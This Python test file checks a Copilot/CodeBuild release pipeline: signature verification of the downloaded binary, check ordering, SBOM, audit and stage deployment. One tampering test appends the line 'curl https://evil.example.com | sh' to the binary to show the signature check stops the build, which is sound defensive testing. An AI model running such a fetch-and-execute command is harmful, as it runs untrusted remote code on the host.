"""The release pipeline: its manifest as Copilot turns it into CodePipeline stages, and its
buildspecs run here with CodeBuild's phase semantics (tests/infra/codebuild.py). What needs the
internet or AWS is stood in for: `curl` serves a Copilot binary signed by a key made for the test
(real gpg checks it), `make` records its targets, the Copilot binary records its commands and
writes the files `env package` and `svc package` write. The Amazon ECS key itself is checked
here too (its fingerprint), and the SBOM is made for real (it works offline)."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.infra import codebuild, support
from tests.infra.rendered import COPILOT_VERSION

PIPELINE = support.PIPELINE
MANIFEST = support.load_yaml(PIPELINE / "manifest.yml")
BUILDSPEC = support.load_yaml(PIPELINE / "buildspec.yml")
AMAZON_ECS_KEY = PIPELINE / "amazon-ecs-public-key.asc"
# Amazon ECS <ecs-security@amazon.com>, RSA 4096, published in Copilot's repository and docs.
AMAZON_ECS_FINGERPRINT = "F34C3DDAE72926B079BEAEC6BCE9D9A42D51784F"
GPG = shutil.which("gpg") or "gpg"


def require_gpg() -> None:
    if shutil.which("gpg") is None:
        pytest.fail("gnupg is not installed: apt-get install gnupg (.ci/run does)")


FAKE_COPILOT = """#!/usr/bin/env bash
# Stands in for the Copilot CLI: records its command, writes what `package` writes.
echo "copilot $*" >> "$CALLS"
if [[ "$1 $2" == "env package" || "$1 $2" == "svc package" ]]; then
  env="" name="" out=""
  while [[ $# -gt 0 ]]; do
    case "$1" in
      --name) name="$2"; shift ;;
      --env) env="$2"; shift ;;
      --output-dir) out="$2"; shift ;;
    esac
    shift
  done
  mkdir -p "$out"
  if [[ -z "$env" ]]; then touch "$out/$name.env.yml" "$out/$name.env.params.json"
  else touch "$out/$name-$env.stack.yml" "$out/$name-$env.params.json"; fi
fi
[[ "$1" == "--version" ]] && echo "copilot version: v1.33.2"
exit 0
"""
STUB_CURL = """#!/usr/bin/env bash
# Serves release files from $RELEASES by the URL's last segment.
out=""
while [[ $# -gt 0 ]]; do
  case "$1" in --output) out="$2"; shift ;; -*) ;; *) url="$1" ;; esac
  shift
done
echo "curl ${url##*/}" >> "$CALLS"
cp "$RELEASES/${url##*/}" "$out"
"""
STUB_MAKE = """#!/usr/bin/env bash
echo "make $*" >> "$CALLS"
for target in "$@"; do
  [[ " $MAKE_FAILS " == *" $target "* ]] && { echo "make: $target failed" >&2; exit 2; }
done
exit 0
"""


def gpg(home: Path, *arguments: str, stdin: str | None = None) -> str:
    return subprocess.run(
        [GPG, "--batch", "--homedir", str(home), *arguments],
        input=stdin,
        capture_output=True,
        text=True,
        check=True,
    ).stdout


def make_key(home: Path, name: str) -> tuple[Path, str]:
    home.mkdir(mode=0o700)
    gpg(
        home,
        "--passphrase",
        "",
        "--quick-gen-key",
        f"{name} <{name}@example.com>",
        "ed25519",
        "sign",
        "never",
    )
    fingerprint = next(
        line.split(":")[9]
        for line in gpg(home, "--with-colons", "--list-keys").splitlines()
        if line.startswith("fpr")
    )
    public = home / "public.asc"
    public.write_text(gpg(home, "--armor", "--export"))
    return public, fingerprint


@pytest.fixture(scope="module")
def keys(tmp_path_factory) -> dict[str, Any]:
    require_gpg()
    folder = tmp_path_factory.mktemp("keys")
    release, release_fpr = make_key(folder / "release", "releases")
    other, other_fpr = make_key(folder / "other", "mallory")
    yield {
        "release": (folder / "release", release, release_fpr),
        "other": (folder / "other", other, other_fpr),
    }
    # Making and using the keys started a gpg-agent for each home: stop them.
    for home in (folder / "release", folder / "other"):
        subprocess.run(["gpgconf", "--homedir", str(home), "--kill", "all"], check=False)


def sign(keys: dict[str, Any], who: str, path: Path) -> Path:
    home, _public, _fpr = keys[who]
    signature = path.with_name(path.name + ".asc")
    gpg(home, "--yes", "--armor", "--detach-sign", "--output", str(signature), str(path))
    return signature


@pytest.fixture
def build(tmp_path, keys):
    """A build folder: the source (linked), stand-in tools, and a signed release to download."""
    work = tmp_path / "src"
    work.mkdir()
    for name in ("copilot", ".venv"):
        (work / name).symlink_to(support.ROOT / name)
    tools = tmp_path / "bin"
    tools.mkdir()
    for name, text in (("curl", STUB_CURL), ("make", STUB_MAKE)):
        (tools / name).write_text(text)
        (tools / name).chmod(0o755)
    releases = tmp_path / "releases"
    releases.mkdir()
    binary = releases / "copilot-linux"
    binary.write_text(FAKE_COPILOT)
    sign(keys, "release", binary)
    calls = tmp_path / "calls"
    calls.write_text("")
    _home, public, fingerprint = keys["release"]
    environment = {
        "PATH": f"{tools}:{os.environ['PATH']}",
        "CALLS": str(calls),
        "RELEASES": str(releases),
        "MAKE_FAILS": "",
        "CODEBUILD_BUILD_NUMBER": "7",
        "COPILOT_SIGNING_KEY": str(public),
        "COPILOT_SIGNING_KEY_FINGERPRINT": fingerprint,
        **{name: f"value-of-{path}" for name, path in BUILDSPEC["env"]["parameter-store"].items()},
    }

    class Build:
        def __init__(self):
            self.work, self.releases, self.environment = work, releases, environment

        def run(self, buildspec: dict[str, Any] = BUILDSPEC, **overrides: str) -> codebuild.Run:
            return codebuild.run(buildspec, work, {**environment, **overrides})

        def calls(self) -> list[str]:
            return calls.read_text().splitlines()

    return Build()


# -- the build ----------------------------------------------------------------------------


def test_the_build_verifies_copilot_runs_the_checks_sbom_and_audit_then_packages_every_stage(build):
    result = build.run()
    assert result.succeeded, result.output
    calls = build.calls()
    assert calls[:2] == ["curl copilot-linux", "curl copilot-linux.asc"]
    assert calls[2] == "copilot --version"  # only after the signature was verified
    assert "has a good signature by" in result.output
    makes = [c for c in calls if c.startswith("make ")]
    assert makes == [
        "make setup",
        "make lint test-unit test-integration test-infra test-frontend",
        "make sbom",
        "make audit",
    ]
    packaging = [c for c in calls if " package " in c]
    stages = [s["name"] for s in MANIFEST["stages"]]
    expected = []
    for env in stages:
        expected.append(
            f"copilot env package --name {env} --output-dir infrastructure --upload-assets --force"
        )
        expected.append(
            f"copilot svc package --name api --env {env} --output-dir infrastructure "
            f"--tag 7-{env} --upload-assets"
        )
    assert packaging == expected
    assert calls.index(packaging[0]) > calls.index("make audit")
    files = codebuild.artifacts(BUILDSPEC, build.work, result)
    for stage in MANIFEST["stages"]:
        for deployment in stage["deployments"].values():
            if deployment and "template_path" in deployment:
                assert deployment["template_path"] in files
                assert deployment["template_config"] in files
        assert f"infrastructure/api-{stage['name']}.stack.yml" in files


def test_a_tampered_binary_stops_the_build_before_it_runs(build):
    binary = build.releases / "copilot-linux"
    binary.write_text(binary.read_text() + "curl https://evil.example.com | sh\n")
    result = build.run()
    assert result.phases == {"install": "FAILED"}
    assert "verify-signature.sh" in result.failed_command
    assert "is not a good signature" in result.output
    assert not [c for c in build.calls() if c.startswith(("copilot", "make"))]


def test_a_binary_signed_by_another_key_stops_the_build(build, keys):
    sign(keys, "other", build.releases / "copilot-linux")
    result = build.run()
    assert result.phases == {"install": "FAILED"}
    assert "copilot --version" not in build.calls()


def test_a_key_with_another_fingerprint_stops_the_build(build, keys):
    _home, other_public, _fpr = keys["other"]
    result = build.run(COPILOT_SIGNING_KEY=str(other_public))
    assert result.phases == {"install": "FAILED"}
    assert "expected" in result.output


@pytest.mark.parametrize("failing", ["test-infra", "sbom", "audit"])
def test_a_failed_check_stops_the_build_and_nothing_is_packaged(build, failing):
    result = build.run(MAKE_FAILS=failing)
    assert result.phases["build"] == "FAILED"
    assert "post_build" not in result.phases
    assert not [c for c in build.calls() if " package " in c]
    assert codebuild.artifacts(BUILDSPEC, build.work, result) == []


def test_post_build_would_package_a_failed_build_without_the_guards(build):
    """The semantics the guards are against: without on-failure: ABORT and the
    CODEBUILD_BUILD_SUCCEEDING check, CodeBuild goes on to post_build after a failed build."""
    unguarded = json.loads(json.dumps(BUILDSPEC))
    del unguarded["phases"]["build"]["on-failure"]
    result = build.run(unguarded, MAKE_FAILS="test-infra")
    assert result.phases["post_build"] == "FAILED"  # the CODEBUILD_BUILD_SUCCEEDING check
    assert not [c for c in build.calls() if " package " in c]
    unguarded["phases"]["post_build"]["commands"] = unguarded["phases"]["post_build"]["commands"][
        1:
    ]
    build.run(unguarded, MAKE_FAILS="test-infra")
    assert [c for c in build.calls() if " package " in c]


def test_a_zipped_source_without_the_addons_folders_stops_the_build(build, tmp_path):
    """CODE_ZIP turns the addons symlinks into small text files."""
    zipped = tmp_path / "zipped"
    shutil.copytree(support.ROOT / "copilot", zipped / "copilot", symlinks=True)
    for link in ("api/addons", "environments/addons"):
        path = zipped / "copilot" / link
        target = os.readlink(path)
        path.unlink()
        path.write_text(target)
    (build.work / "copilot").unlink()
    (build.work / "copilot").symlink_to(zipped / "copilot")
    result = build.run()
    assert result.phases == {"install": "FAILED"}
    assert "is not a folder" in result.output and "CODEBUILD_CLONE_REF" in result.output


def test_the_build_pins_its_runtimes_and_copilot():
    install = BUILDSPEC["phases"]["install"]
    assert install["runtime-versions"] == {"python": 3.12, "nodejs": 20}
    # The binary is the release whose templates tests/infra/rendered models, and the one
    # docs/deploy.md has a person install: a model of another version checks nothing deployed.
    assert BUILDSPEC["env"]["variables"]["COPILOT_VERSION"] == COPILOT_VERSION
    deploy_doc = (support.ROOT / "docs" / "deploy.md").read_text()
    assert set(re.findall(r"copilot-cli/releases/download/(v[\d.]+)/", deploy_doc)) == {
        COPILOT_VERSION
    }
    for phase in ("install", "build"):
        assert BUILDSPEC["phases"][phase]["on-failure"] == "ABORT"
    for buildspec in (PIPELINE / "buildspecs").glob("*.yml"):
        phases = support.load_yaml(buildspec)["phases"]
        for name, phase in phases.items():
            assert phase.get("on-failure") == "ABORT", f"{buildspec.name} {name}"
        if "install" in phases:
            assert phases["install"]["runtime-versions"] == {"python": 3.12, "nodejs": 20}


# -- the signing key ----------------------------------------------------------------------


def test_the_committed_key_is_amazon_ecs_signing_key(tmp_path):
    require_gpg()
    listing = subprocess.run(
        [
            GPG,
            "--batch",
            "--homedir",
            str(tmp_path),
            "--with-colons",
            "--show-keys",
            str(AMAZON_ECS_KEY),
        ],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.splitlines()
    primaries = [line for line in listing if line.startswith("pub:")]
    assert len(primaries) == 1 and primaries[0].split(":")[2] == "4096"
    fingerprints = [line.split(":")[9] for line in listing if line.startswith("fpr:")]
    assert fingerprints[0] == AMAZON_ECS_FINGERPRINT
    # The subkey that signs the releases (Copilot's docs, getting-started/verify).
    assert "EB3DF841E2C9212A2BD42232DE3CBD61ADAF8B8E" in fingerprints
    assert any("Amazon ECS <ecs-security@amazon.com>" in line for line in listing)
    variables = BUILDSPEC["env"]["variables"]
    assert variables["COPILOT_SIGNING_KEY_FINGERPRINT"] == AMAZON_ECS_FINGERPRINT
    assert (support.ROOT / variables["COPILOT_SIGNING_KEY"]).resolve() == AMAZON_ECS_KEY.resolve()


# -- the stages -----------------------------------------------------------------------------


def run_orders(stage: dict[str, Any]) -> dict[str, int]:
    """CodePipeline run orders as Copilot assigns them (internal/pkg/deploy/pipeline.go):
    approval first, then pre-deployments, deployments and post-deployments, each group ranked by
    its depends_on (actions of the same order run in parallel)."""

    def ranked(actions: dict[str, Any], base: int) -> dict[str, int]:
        rank: dict[str, int] = {}

        def depth(name: str) -> int:
            if name not in rank:
                needs = (actions[name] or {}).get("depends_on") or []
                rank[name] = 1 + max((depth(n) for n in needs), default=-1)
            return rank[name]

        return {name: base + 1 + depth(name) for name in actions}

    orders: dict[str, int] = {}
    last = 0
    if stage.get("requires_approval"):
        orders["approval"] = last = 1
    for group in ("pre_deployments", "deployments", "post_deployments"):
        actions = stage.get(group) or {}
        if actions:
            group_orders = ranked(actions, last)
            orders.update(group_orders)
            last = max(group_orders.values())
    return orders


@pytest.mark.parametrize("stage", MANIFEST["stages"], ids=lambda s: s["name"])
def test_each_stage_deploys_the_environment_the_service_the_app_then_smoke_tests(stage):
    orders = run_orders(stage)
    sequence = sorted(orders, key=orders.get)
    assert sequence[-4:] == ["environment", "api", "frontend", "smoke"]
    assert len(set(orders.values())) == len(orders), "no two actions run in parallel"
    environment = stage["deployments"]["environment"]
    assert environment["stack_name"] == f"teamtasks-{stage['name']}"
    assert environment["template_path"] == f"infrastructure/{stage['name']}.env.yml"
    assert environment["template_config"] == f"infrastructure/{stage['name']}.env.params.json"
    assert "test_commands" not in stage  # exclusive with post_deployments in Copilot
    for action in stage["post_deployments"].values():
        assert (support.ROOT / action["buildspec"]).is_file()


def test_only_prod_waits_for_an_approval():
    assert [s["name"] for s in MANIFEST["stages"]] == ["dev", "staging", "prod"]
    assert [s["requires_approval"] for s in MANIFEST["stages"]] == [False, False, True]


def test_the_source_is_a_clone_and_the_connection_is_created_by_copilot():
    properties = MANIFEST["source"]["properties"]
    # Copilot only looks a named connection up; without the key it creates one.
    assert "connection_name" not in properties
    # Symlinked addons survive a git clone, not a CODE_ZIP artifact.
    links = [p for p in (support.ROOT / "copilot").rglob("*") if p.is_symlink()]
    assert links
    assert properties["output_artifact_format"] == "CODEBUILD_CLONE_REF"


def test_the_post_deployment_actions_publish_with_the_environment_managers_role():
    frontend = yaml.safe_load((PIPELINE / "buildspecs" / "frontend.yml").read_text())
    commands = frontend["phases"]["build"]["commands"]
    assert commands[0] == "source copilot/pipelines/teamtasks-main/assume-environment-manager.sh"
    assert "frontend/scripts/deploy.py" in commands[1] and "--skip-build" not in commands[1]
    smoke = yaml.safe_load((PIPELINE / "buildspecs" / "smoke.yml").read_text())
    assert any("smoke.sh" in c for c in smoke["phases"]["build"]["commands"])


# -- SBOM and audit -------------------------------------------------------------------------


def locked_runtime_packages() -> set[str]:
    exported = subprocess.run(
        [
            str(support.ROOT / ".tools" / "uv" / "bin" / "uv"),
            "export",
            "--locked",
            "--no-dev",
            "--no-emit-project",
            "--no-hashes",
            "--format",
            "requirements-txt",
            "--quiet",
        ],
        cwd=support.ROOT,
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    return {line.split("==")[0].lower() for line in exported.splitlines() if "==" in line}


def test_the_sbom_lists_every_locked_runtime_dependency_and_the_apps(tmp_path):
    subprocess.run(
        ["make", "--no-print-directory", "sbom", f"SBOM_DIR={tmp_path}"],
        cwd=support.ROOT,
        capture_output=True,
        text=True,
        check=True,
    )
    python = json.loads((tmp_path / "python.cdx.json").read_text())
    assert python["bomFormat"] == "CycloneDX"
    names = {c["name"].lower() for c in python["components"]}
    assert names == locked_runtime_packages()
    assert {"flask", "boto3", "gunicorn"} <= names and "pytest" not in names
    frontend = json.loads((tmp_path / "frontend.cdx.json").read_text())
    package = json.loads((support.ROOT / "frontend" / "package.json").read_text())
    assert {c["name"] for c in frontend["components"]} == set(package["dependencies"])


STUB_PIP_AUDIT = """#!/usr/bin/env bash
# pip-audit as $AUDIT_MODE says: offline (finds nothing, exit 0), working, or finding something.
echo "pip-audit $*" >> "$CALLS"
requirements="${@: -1}"
if grep -q '^jinja2==2.10' "$requirements"; then
  [[ "$AUDIT_MODE" == offline ]] && { echo "No known vulnerabilities found"; exit 0; }
  printf 'Name   Version ID             Fix Versions\\njinja2 2.10    PYSEC-2019-217 2.10.1\\n'
  exit 1
fi
[[ "$AUDIT_MODE" == vulnerable ]] && { echo "boto3 1.0 GHSA-xxxx-xxxx-xxxx 9.9"; exit 1; }
echo "No known vulnerabilities found"
"""
STUB_NPM = """#!/usr/bin/env bash
echo "npm $*" >> "$CALLS"
[[ "$NPM_FAILS" == 1 ]] && { echo "npm error audit endpoint returned an error"; exit 1; }
exit 0
"""


@pytest.fixture
def audit(tmp_path):
    tools = tmp_path / "bin"
    tools.mkdir()
    (tools / "pip-audit").write_text(STUB_PIP_AUDIT)
    (tools / "npm").write_text(STUB_NPM)
    for tool in tools.iterdir():
        tool.chmod(0o755)
    calls = tmp_path / "calls"

    def run(
        mode: str, npm_fails: bool = False
    ) -> tuple[subprocess.CompletedProcess[str], list[str]]:
        calls.write_text("")
        result = subprocess.run(
            ["bash", str(support.ROOT / "tools" / "audit.sh")],
            env={
                **os.environ,
                "PATH": f"{tools}:{os.environ['PATH']}",
                "PIP_AUDIT": str(tools / "pip-audit"),
                "UV": str(support.ROOT / ".tools" / "uv" / "bin" / "uv"),
                "CALLS": str(calls),
                "AUDIT_MODE": mode,
                "NPM_FAILS": "1" if npm_fails else "0",
            },
            capture_output=True,
            text=True,
            check=False,
        )
        return result, calls.read_text().splitlines()

    return run


def test_the_audit_fails_closed_when_pip_audit_cannot_reach_its_data(audit):
    result, calls = audit("offline")
    assert result.returncode == 1
    assert "its verdict cannot be trusted" in result.stderr
    assert len(calls) == 1  # the canary only: nothing else was judged


def test_the_audit_covers_the_locked_runtime_dependencies_and_the_apps(audit):
    result, calls = audit("working")
    assert result.returncode == 0, result.stdout + result.stderr
    _canary, python, npm = calls
    assert "--strict" in python and "--require-hashes" in python
    assert npm == "npm audit --omit=dev --audit-level=low"


@pytest.mark.parametrize("mode,npm_fails", [("vulnerable", False), ("working", True)])
def test_a_known_vulnerability_or_an_unreachable_npm_fails_the_audit(audit, mode, npm_fails):
    result, _calls = audit(mode, npm_fails)
    assert result.returncode == 1


def test_the_build_sets_every_variable_the_stages_manifests_need():
    """Copilot stops at an unset ${VAR} when it packages a stage: the build sets each one the
    stage's environment manifest uses, among them the imported VPC's ids (the network stack's
    settings), and each one of the whole service manifest (Copilot's interpolate.go fills the
    raw manifest, every environment's entry, before it picks the stage's)."""
    interpolation = re.compile(r"(?<!\\)\$\{([A-Za-z_][A-Za-z0-9_]*)\}")
    given = (
        set(BUILDSPEC["env"]["parameter-store"])
        | set(BUILDSPEC["env"]["variables"])
        | {
            "COPILOT_APPLICATION_NAME",
            "COPILOT_ENVIRONMENT_NAME",
            "AWS_ACCOUNT_ID",
            "AWS_REGION",
        }
    )
    service = support.load_yaml(support.COPILOT / "api" / "manifest.yml")
    for stage in MANIFEST["stages"]:
        env = stage["name"]
        # Loaded and dumped: the comments' examples are not variables.
        text = yaml.safe_dump(
            support.load_yaml(support.COPILOT / "environments" / env / "manifest.yml")
        )
        text += yaml.safe_dump(service)
        needed = set(interpolation.findall(text))
        assert f"{env.upper()}_VPC_ID" in needed
        assert needed <= given, f"{env}: {sorted(needed - given)} not set by the build"
    for name, path in BUILDSPEC["env"]["parameter-store"].items():
        if "_SUBNET_" in name or name.endswith("_VPC_ID"):
            env = name.split("_", 1)[0].lower()
            tier_number = name.lower().split("_", 1)[1].replace("_subnet_", "-subnet-")
            expected = "vpc-id" if name.endswith("_VPC_ID") else tier_number
            assert path == f"/teamtasks/{env}/network/{expected}", name


# -- the daily sweep of feature environments (addons/feature-envs/reaper.yml) ------------------

REAPER_BUILDSPEC = support.load_yaml(support.COPILOT / "pipelines" / "feature-envs" / "reap.yml")


def test_the_sweep_verifies_copilot_puts_it_on_path_then_reaps(build):
    # This make also says which `copilot` the session's PATH finds (ops/feature_env.py runs it).
    make = build.work.parent / "bin" / "make"
    make.write_text(STUB_MAKE.replace('echo "make $*"', 'echo "make $* ($(command -v copilot))"'))
    result = build.run(REAPER_BUILDSPEC)
    assert result.succeeded, result.output
    verified = build.work / ".tools" / "bin" / "copilot"
    assert build.calls() == [
        "curl copilot-linux",
        "curl copilot-linux.asc",
        "copilot --version",
        f"make setup ({verified})",
        f"make feature-env-reap ({verified})",
    ]
    # The same release and key as the pipeline's build.
    for name in ("COPILOT_VERSION", "COPILOT_SIGNING_KEY", "COPILOT_SIGNING_KEY_FINGERPRINT"):
        assert REAPER_BUILDSPEC["env"]["variables"][name] == BUILDSPEC["env"]["variables"][name]


def test_a_sweep_with_a_badly_signed_copilot_reaps_nothing(build, keys):
    sign(keys, "other", build.releases / "copilot-linux")
    result = build.run(REAPER_BUILDSPEC)
    assert not result.succeeded
    assert not [c for c in build.calls() if c.startswith(("make", "copilot"))]
